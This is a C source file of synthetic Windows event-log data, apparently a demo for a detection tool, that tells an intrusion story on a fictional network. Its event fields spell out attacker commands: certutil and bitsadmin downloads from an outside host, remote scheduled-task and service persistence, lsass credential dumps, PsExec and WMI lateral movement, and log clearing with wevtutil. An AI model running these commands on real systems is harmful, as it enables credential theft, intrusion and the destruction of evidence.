/* The demo story as data: every event of the three hosts, in time order.
 * Macros fill the fields that are the same in every event of a kind, so each
 * line below shows only what tells the story. */
#include "demo/demo.h"

#define S PS_DEMO_STRING
#define U16 PS_DEMO_UINT16
#define U32 PS_DEMO_UINT32
#define H32 PS_DEMO_HEX32
#define H64 PS_DEMO_HEX64
#define SID PS_DEMO_SID
#define GUID PS_DEMO_GUID

#define JUMP "CORP-JUMP01"  /* the customer's jump host, 10.20.1.10 */
#define FS "CORP-FS01"      /* file server, 10.20.1.20 */
#define DC "CORP-DC01"      /* domain controller, 10.20.1.5 */

/* Accounts: SID, name, domain. */
#define MSP_SID "S-1-5-21-3623811015-3361044348-30300820-1113"
#define BOB_SID "S-1-5-21-3623811015-3361044348-30300820-1104"
#define ALICE_SID "S-1-5-21-3623811015-3361044348-30300820-1107"
#define MSP_LOGON "0x5a31c2"   /* msp-admin's RDP session on the jump host */
#define BOB_LOGON "0x2b0f17"   /* bob's RDP session on the jump host */

/* A process GUID as Sysmon makes them, from a 4-digit process id. */
#define PGUID(host_part, pid) "{" host_part "-65ef-0000-00000000" #pid "}"
#define JUMP_G "7c1e4a20-1d2b"
#define FS_G "31d5e6a8-77f0"

/* ------------------------------------------------------------- Security */

#define LOGON_4624(at, host, step, sid, user, logon_id, type, process, auth, ws, ip, port, \
                   elevated)                                                                \
    {at, host, PS_DEMO_SEC_4624, step,                                                      \
     {{"SubjectUserSid", SID, (type) == 10 ? "S-1-5-18" : "S-1-0-0"},                       \
      {"SubjectUserName", S, (type) == 10 ? host "$" : "-"},                                \
      {"SubjectDomainName", S, (type) == 10 ? "NORTHWIND" : "-"},                           \
      {"SubjectLogonId", H64, (type) == 10 ? "0x3e7" : "0x0"},                              \
      {"TargetUserSid", SID, sid},                                                          \
      {"TargetUserName", S, user},                                                          \
      {"TargetDomainName", S, "NORTHWIND"},                                                 \
      {"TargetLogonId", H64, logon_id},                                                     \
      {"LogonType", U32, #type},                                                            \
      {"LogonProcessName", S, process},                                                     \
      {"AuthenticationPackageName", S, auth},                                               \
      {"WorkstationName", S, ws},                                                           \
      {"LogonGuid", GUID, "{00000000-0000-0000-0000-000000000000}"},                        \
      {"TransmittedServices", S, "-"},                                                      \
      {"LmPackageName", S, (type) == 3 ? "NTLM V2" : "-"},                                  \
      {"KeyLength", U32, (type) == 3 ? "128" : "0"},                                        \
      {"ProcessId", H64, (type) == 10 ? "0x1a4c" : "0x0"},                                  \
      {"ProcessName", S, (type) == 10 ? "C:\\Windows\\System32\\svchost.exe" : "-"},        \
      {"IpAddress", S, ip},                                                                 \
      {"IpPort", S, port},                                                                  \
      {"ImpersonationLevel", S, "%%1833"},                                                  \
      {"RestrictedAdminMode", S, (type) == 10 ? "%%1843" : "-"},                            \
      {"TargetOutboundUserName", S, "-"},                                                   \
      {"TargetOutboundDomainName", S, "-"},                                                 \
      {"VirtualAccount", S, "%%1843"},                                                      \
      {"TargetLinkedLogonId", H64, "0x0"},                                                  \
      {"ElevatedToken", S, elevated}}}

#define PROC_4688(at, host, step, sid, user, logon_id, pid, image, cmd, ppid, parent)        \
    {at, host, PS_DEMO_SEC_4688, step,                                                      \
     {{"SubjectUserSid", SID, sid},                                                         \
      {"SubjectUserName", S, user},                                                         \
      {"SubjectDomainName", S, "NORTHWIND"},                                                \
      {"SubjectLogonId", H64, logon_id},                                                    \
      {"NewProcessId", H64, pid},                                                           \
      {"NewProcessName", S, image},                                                         \
      {"TokenElevationType", S, "%%1937"},                                                  \
      {"ProcessId", H64, ppid},                                                             \
      {"CommandLine", S, cmd},                                                              \
      {"TargetUserSid", SID, "S-1-0-0"},                                                    \
      {"TargetUserName", S, "-"},                                                           \
      {"TargetDomainName", S, "-"},                                                         \
      {"TargetLogonId", H64, "0x0"},                                                        \
      {"ParentProcessName", S, parent},                                                     \
      {"MandatoryLabel", SID, "S-1-16-12288"}}}

/* ------------------------------------------------------------- Sysmon */

#define SYSMON_1(at, host, hg, step, pid, image, ofn, cmd, cwd, user, logon_id, session, ppid, \
                 pimage, pcmd)                                                              \
    {at, host, PS_DEMO_SYSMON_1, step,                                                      \
     {{"RuleName", S, "-"},                                                                 \
      {"UtcTime", PS_DEMO_UTCTIME, ""},                                                     \
      {"ProcessGuid", GUID, PGUID(hg, pid)},                                                \
      {"ProcessId", U32, #pid},                                                             \
      {"Image", S, image},                                                                  \
      {"FileVersion", S, "-"},                                                              \
      {"Description", S, "-"},                                                              \
      {"Product", S, "-"},                                                                  \
      {"Company", S, "-"},                                                                  \
      {"OriginalFileName", S, ofn},                                                         \
      {"CommandLine", S, cmd},                                                              \
      {"CurrentDirectory", S, cwd},                                                         \
      {"User", S, user},                                                                    \
      {"LogonGuid", GUID, "{7c1e4a20-1d2b-65ef-c231-5a0000000000}"},                        \
      {"LogonId", H64, logon_id},                                                           \
      {"TerminalSessionId", U32, #session},                                                 \
      {"IntegrityLevel", S, "High"},                                                        \
      {"Hashes", S, "-"},                                                                   \
      {"ParentProcessGuid", GUID, PGUID(hg, ppid)},                                         \
      {"ParentProcessId", U32, #ppid},                                                      \
      {"ParentImage", S, pimage},                                                           \
      {"ParentCommandLine", S, pcmd},                                                       \
      {"ParentUser", S, user}}}

#define SYSMON_10(at, host, hg, step, spid, simage, tpid, access, suser)                   \
    {at, host, PS_DEMO_SYSMON_10, step,                                                     \
     {{"RuleName", S, "-"},                                                                 \
      {"UtcTime", PS_DEMO_UTCTIME, ""},                                                     \
      {"SourceProcessGUID", GUID, PGUID(hg, spid)},                                         \
      {"SourceProcessId", U32, #spid},                                                      \
      {"SourceThreadId", U32, "5120"},                                                      \
      {"SourceImage", S, simage},                                                           \
      {"TargetProcessGUID", GUID, PGUID(hg, tpid)},                                         \
      {"TargetProcessId", U32, #tpid},                                                      \
      {"TargetImage", S, "C:\\Windows\\system32\\lsass.exe"},                               \
      {"GrantedAccess", S, access},                                                         \
      {"CallTrace", S, "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00007FF6A1B2C3D4)"}, \
      {"SourceUser", S, suser},                                                             \
      {"TargetUser", S, "NT AUTHORITY\\SYSTEM"}}}

/* Commands of the two interactive users on the jump host. */
#define CMD_EXE "C:\\Windows\\System32\\cmd.exe"
#define MSP_CMD(at, step, pid, image, ofn, cmd)                                            \
    SYSMON_1(at, JUMP, JUMP_G, step, pid, image, ofn, cmd, "C:\\ProgramData\\",             \
             "NORTHWIND\\msp-admin", MSP_LOGON, 2, 6412, CMD_EXE, "\"" CMD_EXE "\" ")
#define MSP_4688(at, step, pid_hex, image, cmd)                                            \
    PROC_4688(at, JUMP, step, MSP_SID, "msp-admin", MSP_LOGON, pid_hex, image, cmd, "0x190c", \
              CMD_EXE)
#define BOB_CMD(at, pid, image, ofn, cmd)                                                  \
    SYSMON_1(at, JUMP, JUMP_G, NULL, pid, image, ofn, cmd, "C:\\Users\\bob\\",              \
             "NORTHWIND\\bob", BOB_LOGON, 1, 5216, CMD_EXE, "\"" CMD_EXE "\" ")
#define BOB_4688(at, pid_hex, image, cmd)                                                  \
    PROC_4688(at, JUMP, NULL, BOB_SID, "bob", BOB_LOGON, pid_hex, image, cmd, "0x1460", CMD_EXE)
/* Commands in the SYSTEM shell PsExec gives on the file server. */
#define FS_SHELL(at, step, pid, image, ofn, cmd)                                           \
    SYSMON_1(at, FS, FS_G, step, pid, image, ofn, cmd, "C:\\Windows\\system32\\",           \
             "NT AUTHORITY\\SYSTEM", "0x3e7", 0, 4120, CMD_EXE, "cmd.exe")

#define TASK_XML(command, args)                                                            \
    "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" "                 \
    "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Triggers>\r\n"  \
    "    <BootTrigger>\r\n      <Enabled>true</Enabled>\r\n    </BootTrigger>\r\n"          \
    "  </Triggers>\r\n  <Principals>\r\n    <Principal id=\"Author\">\r\n"                  \
    "      <UserId>S-1-5-18</UserId>\r\n      <RunLevel>HighestAvailable</RunLevel>\r\n"    \
    "    </Principal>\r\n  </Principals>\r\n  <Actions Context=\"Author\">\r\n"            \
    "    <Exec>\r\n      <Command>" command "</Command>\r\n      <Arguments>" args          \
    "</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>"

#define TASK_4698(at, host, step, sid, user, logon_id, name, content, client_pid)         \
    {at, host, PS_DEMO_SEC_4698, step,                                                      \
     {{"SubjectUserSid", SID, sid},                                                         \
      {"SubjectUserName", S, user},                                                         \
      {"SubjectDomainName", S, "NORTHWIND"},                                                \
      {"SubjectLogonId", H64, logon_id},                                                    \
      {"TaskName", S, name},                                                                \
      {"TaskContent", S, content},                                                          \
      {"ClientProcessStartKey", S, "0"},                                                    \
      {"ClientProcessId", U32, client_pid},                                                 \
      {"ParentProcessId", U32, "0"},                                                        \
      {"RpcCallClientLocality", U32, "0"},                                                  \
      {"FQDN", S, "CORP-DC01.northwind.local"}}}

#define SERVICE_7045(at, host, step, name, path, start)                                    \
    {at, host, PS_DEMO_SYS_7045, step,                                                      \
     {{"ServiceName", S, name},                                                             \
      {"ImagePath", S, path},                                                               \
      {"ServiceType", S, "user mode service"},                                              \
      {"StartType", S, start},                                                              \
      {"AccountName", S, "LocalSystem"}}}

/* Evidence of the provider's account arriving over the network on DC01. */
#define MSP_NETWORK_LOGON(at, host, step, logon_id)                                        \
    LOGON_4624(at, host, step, MSP_SID, "msp-admin", logon_id, 3, "NtLmSsp ", "NTLM",      \
               "CORP-JUMP01", "10.20.1.10", "49822", "%%1842")

static const ps_demo_event story[] = {
    /* --- an ordinary evening on the customer's network ------------------ */
    LOGON_4624(0, DC, NULL, ALICE_SID, "alice", "0x8812aa", 3, "Kerberos", "Kerberos", "-",
               "10.20.1.31", "51544", "%%1843"),
    LOGON_4624(40, JUMP, NULL, BOB_SID, "bob", BOB_LOGON, 10, "User32 ", "Negotiate",
               "CORP-WS031", "10.20.1.31", "0", "%%1842"),
    {41, JUMP, PS_DEMO_LSM_21, NULL,
     {{"User", S, "NORTHWIND\\bob"}, {"SessionID", S, "1"}, {"Address", S, "10.20.1.31"}}},
    BOB_CMD(60, 5304, "C:\\Windows\\System32\\certutil.exe", "CertUtil.exe",
            "certutil -dump C:\\Users\\bob\\Downloads\\northwind-root.cer"),
    BOB_4688(60, "0x14b8", "C:\\Windows\\System32\\certutil.exe",
             "certutil -dump C:\\Users\\bob\\Downloads\\northwind-root.cer"),
    SYSMON_10(90, JUMP, JUMP_G, NULL, 3120,
              "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\"
              "MsMpEng.exe",
              1688, "0x1010", "NT AUTHORITY\\SYSTEM"),
    SERVICE_7045(120, JUMP, NULL, "Google Update Service (gupdate)",
                 "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /svc",
                 "auto start"),
    {150, JUMP, PS_DEMO_SEC_4648, NULL,
     {{"SubjectUserSid", SID, "S-1-5-18"}, {"SubjectUserName", S, "CORP-JUMP01$"},
      {"SubjectDomainName", S, "NORTHWIND"}, {"SubjectLogonId", H64, "0x3e7"},
      {"LogonGuid", GUID, "{00000000-0000-0000-0000-000000000000}"},
      {"TargetUserName", S, "bob"}, {"TargetDomainName", S, "NORTHWIND"},
      {"TargetLogonGuid", GUID, "{00000000-0000-0000-0000-000000000000}"},
      {"TargetServerName", S, "localhost"}, {"TargetInfo", S, "localhost"},
      {"ProcessId", H64, "0x3a4"}, {"ProcessName", S, "C:\\Windows\\System32\\svchost.exe"},
      {"IpAddress", S, "127.0.0.1"}, {"IpPort", S, "0"}}},
    FS_SHELL(180, NULL, 2276, "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe",
             "\"C:\\Program Files\\7-Zip\\7z.exe\" x D:\\Incoming\\printer-drivers.7z -oD:\\Drivers"),
    TASK_4698(200, DC, NULL, "S-1-5-18", "CORP-DC01$", "0x3e7",
              "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
              TASK_XML("%systemroot%\\system32\\usoclient.exe", "StartScan"), "1180"),
    BOB_CMD(240, 5380, "C:\\Windows\\System32\\schtasks.exe", "schtasks.exe",
            "schtasks /query /fo LIST /v"),
    BOB_CMD(260, 5392, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe",
            "wevtutil qe System /c:20 /rd:true /f:text"),

    /* --- the provider's account arrives over RDP from the internet ------ */
    {600, JUMP, PS_DEMO_RCM_1149, "rdp-logon",
     {{"Param1", S, "msp-admin"}, {"Param2", S, "NORTHWIND"}, {"Param3", S, "203.0.113.45"}}},
    LOGON_4624(602, JUMP, "rdp-logon", MSP_SID, "msp-admin", MSP_LOGON, 10, "User32 ",
               "Negotiate", "MSP-JUMP01", "203.0.113.45", "0", "%%1842"),
    {603, JUMP, PS_DEMO_LSM_21, "rdp-logon",
     {{"User", S, "NORTHWIND\\msp-admin"}, {"SessionID", S, "2"},
      {"Address", S, "203.0.113.45"}}},

    /* --- a tool comes down with certutil --------------------------------- */
    MSP_CMD(700, "certutil", 6480, "C:\\Windows\\System32\\certutil.exe", "CertUtil.exe",
            "certutil.exe -urlcache -split -f http://198.51.100.23/t.exe C:\\ProgramData\\t.exe"),
    MSP_4688(700, "certutil", "0x1950", "C:\\Windows\\System32\\certutil.exe",
             "certutil.exe -urlcache -split -f http://198.51.100.23/t.exe C:\\ProgramData\\t.exe"),

    /* --- a scheduled task planted on the domain controller -------------- */
    MSP_CMD(760, "schtask", 6532, "C:\\Windows\\System32\\schtasks.exe", "schtasks.exe",
            "schtasks /create /s CORP-DC01 /ru SYSTEM /sc onstart /tn "
            "\\Microsoft\\Windows\\Maintenance\\SysHelper /tr C:\\ProgramData\\t.exe"),
    MSP_NETWORK_LOGON(761, DC, "schtask", "0x91d3e0"),
    TASK_4698(762, DC, "schtask", MSP_SID, "msp-admin", "0x91d3e0",
              "\\Microsoft\\Windows\\Maintenance\\SysHelper",
              TASK_XML("C:\\ProgramData\\t.exe", ""), "0"),

    /* --- and a service on the domain controller ------------------------- */
    MSP_CMD(820, "service", 6588, "C:\\Windows\\System32\\sc.exe", "sc.exe",
            "sc \\\\CORP-DC01 create SysHelperSvc binPath= \"cmd.exe /c C:\\ProgramData\\t.exe\" "
            "start= auto"),
    SERVICE_7045(821, DC, "service", "SysHelperSvc", "cmd.exe /c C:\\ProgramData\\t.exe",
                 "auto start"),
    {821, DC, PS_DEMO_SEC_4697, "service",
     {{"SubjectUserSid", SID, MSP_SID}, {"SubjectUserName", S, "msp-admin"},
      {"SubjectDomainName", S, "NORTHWIND"}, {"SubjectLogonId", H64, "0x91d3e0"},
      {"ServiceName", S, "SysHelperSvc"},
      {"ServiceFileName", S, "cmd.exe /c C:\\ProgramData\\t.exe"},
      {"ServiceType", H32, "0x10"}, {"ServiceStartType", U32, "2"},
      {"ServiceAccount", S, "LocalSystem"}}},

    /* --- lsass is dumped, with ProcDump and then with comsvcs.dll ------- */
    MSP_CMD(900, "lsass-dump", 6640, "C:\\ProgramData\\procdump64.exe", "procdump",
            "procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\lsass.dmp"),
    MSP_4688(900, "lsass-dump", "0x19f0", "C:\\ProgramData\\procdump64.exe",
             "procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\lsass.dmp"),
    SYSMON_10(901, JUMP, JUMP_G, "lsass-dump", 6640, "C:\\ProgramData\\procdump64.exe", 1688,
              "0x1fffff", "NORTHWIND\\msp-admin"),
    MSP_CMD(960, "lsass-dump", 6702, "C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 1688 "
            "C:\\ProgramData\\m.dmp full"),
    MSP_4688(960, "lsass-dump", "0x1a2e", "C:\\Windows\\System32\\rundll32.exe",
             "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 1688 "
             "C:\\ProgramData\\m.dmp full"),
    SYSMON_10(961, JUMP, JUMP_G, "lsass-dump", 6702, "C:\\Windows\\System32\\rundll32.exe",
              1688, "0x1fffff", "NORTHWIND\\msp-admin"),

    /* --- the dumps are staged in a password-protected, split rar -------- */
    MSP_CMD(1080, "rar-staging", 6760, "C:\\ProgramData\\rar.exe", "Command line RAR",
            "rar.exe a -r -hpNw2024! -v50m C:\\ProgramData\\upd.rar C:\\ProgramData\\*.dmp"),
    MSP_4688(1080, "rar-staging", "0x1a68", "C:\\ProgramData\\rar.exe",
             "rar.exe a -r -hpNw2024! -v50m C:\\ProgramData\\upd.rar C:\\ProgramData\\*.dmp"),

    /* --- PsExec to the file server -------------------------------------- */
    MSP_CMD(1200, "psexec", 6824, "C:\\ProgramData\\PsExec64.exe", "psexec.c",
            "PsExec64.exe \\\\CORP-FS01 -accepteula -s cmd.exe"),
    {1201, JUMP, PS_DEMO_SEC_4648, "psexec",
     {{"SubjectUserSid", SID, MSP_SID}, {"SubjectUserName", S, "msp-admin"},
      {"SubjectDomainName", S, "NORTHWIND"}, {"SubjectLogonId", H64, MSP_LOGON},
      {"LogonGuid", GUID, "{00000000-0000-0000-0000-000000000000}"},
      {"TargetUserName", S, "msp-admin"}, {"TargetDomainName", S, "NORTHWIND"},
      {"TargetLogonGuid", GUID, "{00000000-0000-0000-0000-000000000000}"},
      {"TargetServerName", S, "CORP-FS01"}, {"TargetInfo", S, "CORP-FS01"},
      {"ProcessId", H64, "0x1aa8"}, {"ProcessName", S, "C:\\ProgramData\\PsExec64.exe"},
      {"IpAddress", S, "-"}, {"IpPort", S, "-"}}},
    SERVICE_7045(1203, FS, "psexec", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "demand start"),
    {1204, FS, PS_DEMO_SYSMON_17, "psexec",
     {{"RuleName", S, "-"}, {"EventType", S, "CreatePipe"}, {"UtcTime", PS_DEMO_UTCTIME, ""},
      {"ProcessGuid", GUID, PGUID(FS_G, 4088)}, {"ProcessId", U32, "4088"},
      {"PipeName", S, "\\PSEXESVC"}, {"Image", S, "C:\\Windows\\PSEXESVC.exe"},
      {"User", S, "NT AUTHORITY\\SYSTEM"}}},
    SYSMON_1(1205, FS, FS_G, "psexec", 4120, CMD_EXE, "Cmd.Exe", "cmd.exe",
             "C:\\Windows\\system32\\", "NT AUTHORITY\\SYSTEM", "0x3e7", 0, 4088,
             "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe"),
    FS_SHELL(1230, "psexec", 4196, "C:\\Windows\\System32\\bitsadmin.exe", "bitsadmin.exe",
             "bitsadmin /transfer upd /download /priority high http://198.51.100.23/r.exe "
             "C:\\Windows\\Temp\\r.exe"),

    /* --- and WMI, for a second foothold --------------------------------- */
    MSP_CMD(1300, "wmi", 6896, "C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe",
            "wmic /node:CORP-FS01 process call create \"cmd.exe /c C:\\Windows\\Temp\\r.exe\""),
    SYSMON_1(1303, FS, FS_G, "wmi", 4268, CMD_EXE, "Cmd.Exe",
             "cmd.exe /c C:\\Windows\\Temp\\r.exe", "C:\\Windows\\system32\\",
             "NORTHWIND\\msp-admin", "0x7a113c", 0, 3312, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
             "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),

    /* --- the file server's Security log is cleared ---------------------- *
     * Everything that log held before (the provider's logons on CORP-FS01)
     * is gone; System and Sysmon, not cleared, still tell the hop. */
    FS_SHELL(1500, "log-clearing", 4320, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe",
             "wevtutil cl Security"),
    {1501, FS, PS_DEMO_SEC_1102, "log-clearing",
     {{"SubjectUserSid", SID, "S-1-5-18"}, {"SubjectUserName", S, "CORP-FS01$"},
      {"SubjectDomainName", S, "NORTHWIND"}, {"SubjectLogonId", H64, "0x3e7"}}},
    FS_SHELL(1510, "log-clearing", 4352, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe",
             "wevtutil cl \"Windows PowerShell\""),
    {1511, FS, PS_DEMO_SYS_104, "log-clearing",
     {{"SubjectUserName", S, "SYSTEM"}, {"SubjectDomainName", S, "NT AUTHORITY"},
      {"Channel", S, "Windows PowerShell"}, {"BackupPath", S, ""}}},

    /* --- life goes on ---------------------------------------------------- */
    BOB_CMD(1800, 5544, "C:\\Windows\\System32\\sc.exe", "sc.exe", "sc query wuauserv"),
    BOB_4688(1800, "0x15a8", "C:\\Windows\\System32\\sc.exe", "sc query wuauserv"),
};

static const ps_demo_step steps[] = {
    {"rdp-logon", "the provider's account msp-admin logs on to CORP-JUMP01 over RDP from "
                  "MSP-JUMP01 (203.0.113.45)"},
    {"certutil", "certutil downloads t.exe from 198.51.100.23"},
    {"schtask", "schtasks plants a boot task running t.exe on CORP-DC01"},
    {"service", "sc.exe installs a service running t.exe on CORP-DC01"},
    {"lsass-dump", "lsass is dumped with ProcDump, then with comsvcs.dll MiniDump"},
    {"rar-staging", "the dumps go into a password-protected, split rar archive"},
    {"psexec", "PsExec opens a SYSTEM shell on CORP-FS01; bitsadmin fetches r.exe there"},
    {"wmi", "wmic starts r.exe on CORP-FS01 through WMI"},
    {"log-clearing", "wevtutil clears CORP-FS01's Security and PowerShell logs"},
};

static const char *const hosts[] = {JUMP, FS, DC};

const ps_demo_event *ps_demo_events(size_t *count)
{
    *count = sizeof story / sizeof story[0];
    return story;
}

const ps_demo_step *ps_demo_steps(size_t *count)
{
    *count = sizeof steps / sizeof steps[0];
    return steps;
}

const char *const *ps_demo_hosts(size_t *count)
{
    *count = sizeof hosts / sizeof hosts[0];
    return hosts;
}
